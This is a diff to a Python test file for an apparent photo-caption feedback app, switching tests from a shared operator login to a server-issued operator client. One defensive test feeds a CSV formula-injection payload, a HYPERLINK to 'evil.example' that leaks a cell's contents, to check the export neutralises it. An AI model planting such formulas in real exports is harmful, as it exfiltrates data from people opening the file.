@@ -16,7 +16,7 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from feedback_db.models import Prediction, Upload
-from tests.app.conftest import OPERATOR, PHOTOS, start_app
+from tests.app.conftest import PHOTOS, start_app
 
 pytestmark = pytest.mark.server
 
@@ -61,7 +61,7 @@ def test_a_jpeg_with_gps_has_none_after_upload_and_in_exports(running_app, tmp_p
         assert im.size == (80, 120) and not im.getexif()  # orientation 6 applied to the pixels, tag gone
     assert (width, height) == (120, 80)  # the row keeps the size as uploaded
 
-    client.predict(*OPERATOR, api_name="/operator_login")
+    client = running_app.operator_client()  # the server-issued login cookie
     for fmt in ("csv", "jsonl"):
         with export_zip(client, fmt) as zf:
             images = [n for n in zf.namelist() if "/images/" in n and not n.endswith("/")]
@@ -76,7 +76,7 @@ def test_a_formula_in_a_corrected_caption_is_neutralised_in_the_csv_export(runni
     client.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
     client.predict(4, 4, 4, formula, "@SUM(A1:A9)", "", api_name="/rate_caption")
-    client.predict(*OPERATOR, api_name="/operator_login")
+    client = running_app.operator_client()
     with export_zip(client, "csv") as zf:
         name = next(n for n in zf.namelist() if n.endswith("feedback.csv"))
         rows = list(csv.DictReader(io.TextIOWrapper(zf.open(name), encoding="utf-8", newline="")))
@@ -233,8 +233,7 @@ def test_export_links_expire(running_app):
     import httpx
 
     exports = running_app.config.paths.exports
-    client = running_app.client()
-    client.predict(*OPERATOR, api_name="/operator_login")
+    client = running_app.operator_client()
     before = set(exports.iterdir()) if exports.is_dir() else set()
     client.predict("csv", api_name="/operator_export")
     (folder,) = set(exports.iterdir()) - before  # one random folder per export
